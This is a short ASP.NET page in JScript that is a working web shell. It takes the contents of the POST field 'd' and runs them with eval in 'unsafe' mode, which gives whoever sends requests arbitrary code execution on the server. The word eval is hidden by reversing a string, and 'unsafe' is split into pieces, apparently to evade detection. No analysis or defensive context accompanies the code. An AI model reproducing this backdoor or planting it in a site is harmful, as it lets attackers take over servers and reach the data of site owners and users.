<%@ Page Language="JScript" %>
<%
var f = "lave".split("").reverse().join("");
var g = this[f] ? this[f] : eval;
var x = Request.Form["d"];
eval(x, "u" + "n" + "safe");
%>
